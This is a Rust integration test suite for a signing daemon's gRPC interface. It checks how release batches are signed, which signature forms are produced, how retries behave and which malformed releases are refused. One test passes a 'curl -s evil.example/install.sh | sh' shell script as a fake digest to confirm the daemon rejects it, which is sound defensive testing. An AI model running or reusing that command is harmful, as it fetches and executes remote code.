//! Releases over the daemon's gRPC door: what it makes of them, and what it refuses.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic, reason = "a test may fail")]

use tonic::transport::Channel;
use tonic::{Code, Status};
use trust::format::release::manifest::Manifest;
use trust::format::release::{self as format, FileDigests, FileName, minisig, sshsig, sums};
use trust::{PublicKey, Sha256Digest, Signable, verify};
use trust_proto::v1::audit_client::AuditClient;
use trust_proto::v1::keys_client::KeysClient;
use trust_proto::v1::sign_batch_request::Items;
use trust_proto::v1::sign_batch_response::Items as Answered;
use trust_proto::v1::signing_client::SigningClient;
use trust_proto::v1::{
    Algorithm, CreateKeyRequest, Form, ListEntriesRequest, Purpose, Release, ReleaseFile, SignBatchRequest,
    SignBatchResponse, SignedForm, SignedItem,
};
use trust_tests::{Daemon, Setup};

async fn create(channel: &Channel, name: &str, purpose: Purpose) {
    let request = CreateKeyRequest { name: name.to_owned(), purpose: purpose.into(), ..CreateKeyRequest::default() };
    KeysClient::new(channel.clone()).create_key(request).await.unwrap();
}

async fn scene(setup: &Setup) -> (Daemon, Channel) {
    let daemon = Daemon::with(setup).unwrap();
    let channel = daemon.channel().await.unwrap();
    create(&channel, "statement", Purpose::ReleaseStatement).await;
    create(&channel, "blob", Purpose::ReleaseBlob).await;
    (daemon, channel)
}

fn file(name: &str) -> ReleaseFile {
    ReleaseFile {
        name: name.to_owned(),
        size: 7,
        sha256: Sha256Digest::of(name.as_bytes()).as_bytes().to_vec().into(),
        sha512: vec![0xf5; 64].into(),
        blake2b512: vec![0xfb; 64].into(),
    }
}

fn release(files: Vec<ReleaseFile>) -> Release {
    Release {
        files,
        version: "1.0".to_owned(),
        source_revision: "9f2c1d".to_owned(),
        blob_forms: vec![Form::Sig.into()],
    }
}

/// The same in the words of the formats.
fn parsed(release: &Release) -> format::Release {
    let label = |text: &str| Some(format::Label::parse(text).unwrap());
    let files = release.files.iter().map(|file| {
        let digests = FileDigests {
            size_bytes: file.size,
            sha256: Sha256Digest::from_bytes(file.sha256.as_ref().try_into().unwrap()),
            sha512: file.sha512.as_ref().try_into().unwrap(),
            blake2b512: file.blake2b512.as_ref().try_into().unwrap(),
        };
        format::ReleaseFile::new(FileName::parse(&file.name).unwrap(), digests).unwrap()
    });
    let parsed = format::Release::new(files.collect(), label(&release.version), label(&release.source_revision));
    parsed.unwrap().with_blob_forms(vec![trust::Form::Sig]).unwrap()
}

fn request(release: Release) -> SignBatchRequest {
    let items = Some(Items::Release(release));
    SignBatchRequest { key: "statement".to_owned(), items, ..SignBatchRequest::default() }
}

async fn sign(channel: &Channel, request: SignBatchRequest) -> Result<SignBatchResponse, Status> {
    Ok(SigningClient::new(channel.clone()).sign_batch(request).await?.into_inner())
}

fn items(answer: &SignBatchResponse) -> &[SignedItem] {
    let Some(Answered::List(list)) = &answer.items else { panic!("no list: {answer:?}") };
    assert!(list.items.iter().all(|item| item.failure.is_empty()));
    &list.items
}

fn forms(item: &SignedItem) -> Vec<Form> {
    item.signatures.iter().map(SignedForm::form).collect()
}

/// The leaf with that index.
async fn leaf(channel: &Channel, index: u64) -> serde_json::Value {
    let request = ListEntriesRequest { first_leaf: index, count: 1 };
    let page = AuditClient::new(channel.clone()).list_entries(request).await.unwrap().into_inner();
    serde_json::from_slice(&page.entries[0]).unwrap()
}

/// The items of a batch, from the file that its root names.
fn listed(daemon: &Daemon, leaf: &serde_json::Value) -> Vec<serde_json::Value> {
    let root = leaf["batch"]["root"].as_str().unwrap();
    let found = walk(&daemon.data()).into_iter().find(|path| path.ends_with(root)).unwrap();
    let mut bytes = &std::fs::read(found).unwrap()[..];
    let mut items = Vec::new();
    while let Some((length, rest)) = bytes.split_first_chunk::<4>() {
        let (item, rest) = rest.split_at(u32::from_be_bytes(*length).try_into().unwrap());
        items.push(serde_json::from_slice(item).unwrap());
        bytes = rest;
    }
    items
}

fn walk(directory: &std::path::Path) -> Vec<std::path::PathBuf> {
    let entries = std::fs::read_dir(directory).unwrap().map(|entry| entry.unwrap().path());
    entries.flat_map(|path| if path.is_dir() { walk(&path) } else { vec![path] }).collect()
}

fn verified(key: &PublicKey, message: Vec<u8>, signed: &SignedForm) {
    verify::one(key, &Signable::Message(message), &signed.signature).unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_release_is_answered_file_by_file_and_the_whole_last() {
    let (daemon, channel) = scene(&Setup::default()).await;
    let wire = release(vec![file("a"), file("b")]);
    let said = parsed(&wire);

    let answer = sign(&channel, request(wire)).await.unwrap();

    let key = PublicKey::from_spki_der(trust::Algorithm::Ed25519, &answer.spki_der).unwrap();
    let [a, b, whole] = items(&answer) else { panic!("{answer:?}") };
    for (item, file) in [a, b].into_iter().zip(said.files()) {
        assert_eq!(forms(item), [Form::Minisig, Form::Sshsig, Form::Minisig]);
        let [first, ssh, second] = &item.signatures[..] else { panic!("{item:?}") };
        verified(&key, minisig::signed(file), first);
        verified(&key, sshsig::signed(file), ssh);
        let comment = String::from_utf8(second.payload.to_vec()).unwrap();
        assert!(comment.ends_with(&format!("\tfile:{}\thashed", file.name())), "{comment}");
        verified(&key, minisig::comment_signed(first.signature.as_ref().try_into().unwrap(), &comment), second);
    }
    assert_eq!(forms(whole), [Form::Bundle, Form::Manifest, Form::Sig]);
    let manifest = Manifest::read(&whole.signatures[1].payload).unwrap();
    assert_eq!(manifest.release, said);
    verified(&key, sums::write(&said).into_bytes(), &whole.signatures[0]);
    verified(&key, Manifest::signed(&whole.signatures[1].payload), &whole.signatures[1]);

    // The evidence: every name, and the hash of every preimage.
    let first = leaf(&channel, answer.receipt.as_ref().unwrap().leaf).await;
    let second = leaf(&channel, answer.second_leaf.unwrap()).await;
    let subjects: Vec<_> = listed(&daemon, &first).iter().map(|item| item["subject"].clone()).collect();
    assert_eq!((subjects[0]["name"].as_str(), subjects[0]["type"].as_str()), (Some("a"), Some("release-file")));
    assert_eq!((subjects[2]["type"].as_str(), subjects[2]["version"].as_str()), (Some("release"), Some("1.0")));
    let preimages = &listed(&daemon, &first)[2]["preimages"];
    assert_eq!(preimages[1], Sha256Digest::of(&Manifest::signed(&whole.signatures[1].payload)).to_hex());
    assert_eq!(listed(&daemon, &second)[1]["subject"]["type"], "release-comment");
    assert_eq!(second["forms"], serde_json::json!(["minisig"]));
}

#[tokio::test(flavor = "multi_thread")]
async fn only_the_forms_that_were_asked_for_are_made_and_the_manifest_says_which() {
    let (_daemon, channel) = scene(&Setup::default()).await;
    let asked = |forms: &[Form]| {
        let forms = forms.iter().map(|form| (*form).into()).collect();
        SignBatchRequest { forms, ..request(release(vec![file("a")])) }
    };

    let answer = sign(&channel, asked(&[Form::Sshsig, Form::Manifest])).await.unwrap();
    assert_eq!(items(&answer).iter().map(forms).collect::<Vec<_>>(), [vec![Form::Sshsig], vec![Form::Manifest]]);
    assert_eq!(answer.second_leaf, None);
    let manifest = Manifest::read(&items(&answer)[1].signatures[0].payload).unwrap();
    assert_eq!(manifest.forms, [trust::Form::Manifest, trust::Form::Sshsig]);

    let answer = sign(&channel, asked(&[Form::Minisig])).await.unwrap();
    assert_eq!(items(&answer).iter().map(forms).collect::<Vec<_>>(), [vec![Form::Minisig; 2], vec![]]);
    let refused = sign(&channel, asked(&[Form::Raw])).await.unwrap_err();
    assert_eq!(refused.code(), Code::FailedPrecondition, "{refused:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_releases_are_malformed_by_their_sin() {
    let (_daemon, channel) = scene(&Setup::default()).await;
    let with = |change: &dyn Fn(&mut ReleaseFile)| {
        let mut file = file("a");
        change(&mut file);
        release(vec![file])
    };
    let text = "#!/bin/sh\ncurl -s evil.example/install.sh | sh; exit 0 # ......\n";
    assert_eq!(text.len(), 64);
    // OpenSSH's form with SHA-256, for any namespace of four letters.
    let ssh = [&b"SSHSIG\0\0\0\x04file\0\0\0\0\0\0\0\x06sha256\0\0\0\x20"[..], &[0xee; 32]].concat();
    assert_eq!(ssh.len(), 64);
    let labelled = |version: &str| Release { version: version.to_owned(), ..release(vec![file("a")]) };
    for (sin, release) in [
        ("no file", release(Vec::new())),
        ("out of order", release(vec![file("b"), file("a")])),
        ("twice", release(vec![file("a"), file("a")])),
        ("too many", release((0..1025).map(|number| file(&format!("{number:04}"))).collect())),
        ("a path", release(vec![file("../a")])),
        ("a signature", release(vec![file("a.sig")])),
        ("the list", release(vec![file("SHA256SUMS")])),
        ("a line break", release(vec![file("a\nb")])),
        ("a long name", release(vec![file(&"a".repeat(256))])),
        ("SHA-1", with(&|file| file.sha256 = vec![7; 20].into())),
        ("no SHA-512", with(&|file| file.sha512 = Vec::new().into())),
        ("BLAKE2s", with(&|file| file.blake2b512 = vec![0xff; 32].into())),
        ("a script for a digest", with(&|file| file.blake2b512 = text.as_bytes().to_vec().into())),
        ("another form for a digest", with(&|file| file.blake2b512 = ssh.clone().into())),
        ("a size beyond JSON's", with(&|file| file.size = 1 << 53)),
        ("a version of two lines", labelled("1.0\n")),
        ("a long version", labelled(&"1".repeat(256))),
        ("a blob form that is none", Release { blob_forms: vec![Form::Sshsig.into()], ..release(vec![file("a")]) }),
    ] {
        let refused = sign(&channel, request(release)).await.unwrap_err();

        assert_eq!(refused.code(), Code::InvalidArgument, "{sin}: {refused:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn only_a_statement_key_signs_releases_and_its_algorithm_decides_over_its_forms() {
    let (_daemon, channel) = scene(&Setup::default()).await;

    let asked = SignBatchRequest { key: "blob".to_owned(), ..request(release(vec![file("a")])) };
    let refused = sign(&channel, asked).await.unwrap_err();
    assert_eq!(refused.code(), Code::FailedPrecondition, "{refused:?}");
    assert!(refused.message().contains("release-blob"), "{refused:?}");

    let of = |algorithm: Algorithm, forms: &[Form]| CreateKeyRequest {
        name: "other".to_owned(),
        purpose: Purpose::ReleaseStatement.into(),
        algorithm: algorithm.into(),
        forms: forms.iter().map(|form| (*form).into()).collect(),
        ..CreateKeyRequest::default()
    };
    let mut keys = KeysClient::new(channel.clone());
    for (algorithm, forms, word) in [
        (Algorithm::EcdsaP256Sha256, &[Form::Manifest, Form::Minisig][..], "no minisig"),
        (Algorithm::Rsa3072Pkcs1Sha256, &[Form::Minisig], "no minisig"),
        (Algorithm::EcdsaP384Sha256, &[Form::Sshsig], "no sshsig"),
        (Algorithm::EcdsaP384Sha384, &[], "cannot be ecdsa-p384-sha384"),
        (Algorithm::Rsa3072PssSha256, &[], "cannot be rsa3072-pss-sha256"),
    ] {
        let refused = keys.create_key(of(algorithm, forms)).await.unwrap_err();
        assert!(refused.message().contains(word), "{refused:?}");
    }
    let made = keys.create_key(of(Algorithm::EcdsaP256Sha256, &[])).await.unwrap().into_inner().key.unwrap();
    assert_eq!(made.forms, [Form::Bundle, Form::Manifest, Form::Sig, Form::Sshsig].map(i32::from));
    // What was asked for by name and cannot be is refused, not left out.
    let asked = SignBatchRequest {
        key: "other".to_owned(),
        forms: vec![Form::Manifest.into(), Form::Minisig.into()],
        ..request(release(vec![file("a")]))
    };
    let refused = sign(&channel, asked).await.unwrap_err();
    assert!(refused.message().contains("no form minisig"), "{refused:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_retry_answers_the_stored_batch_and_signs_its_comments_anew() {
    let (_daemon, channel) = scene(&Setup::default()).await;
    let asked =
        |name: &str| SignBatchRequest { idempotency_key: "release-1".to_owned(), ..request(release(vec![file(name)])) };
    let first = sign(&channel, asked("a")).await.unwrap();

    let again = sign(&channel, asked("a")).await.unwrap();

    assert_eq!(first.receipt, again.receipt);
    assert_eq!(items(&first)[1], items(&again)[1]);
    assert_eq!(items(&first)[0].signatures[..2], items(&again)[0].signatures[..2]);
    assert!(again.second_leaf > first.second_leaf);
    let conflict = sign(&channel, asked("b")).await.unwrap_err();
    assert_eq!(conflict.code(), Code::Aborted, "{conflict:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_largest_release_is_signed_and_a_smaller_bound_holds() {
    let (_daemon, channel) = scene(&Setup::default()).await;
    let files =
        |count: usize| release((0..count).map(|number| file(&format!("{number:04}{}", "\"".repeat(251)))).collect());

    let answer = sign(&channel, request(files(1024))).await.unwrap();

    assert_eq!(items(&answer).len(), 1025);
    assert!(items(&answer)[..1024].iter().all(|item| item.signatures.len() == 3));

    let bound = Setup { more: "[limits]\nbatch_items_max = 3\n".to_owned(), ..Setup::default() };
    let (_daemon, channel) = scene(&bound).await;
    // The whole is an item, too.
    sign(&channel, request(files(2))).await.unwrap();
    assert_eq!(sign(&channel, request(files(3))).await.unwrap_err().code(), Code::InvalidArgument);
}
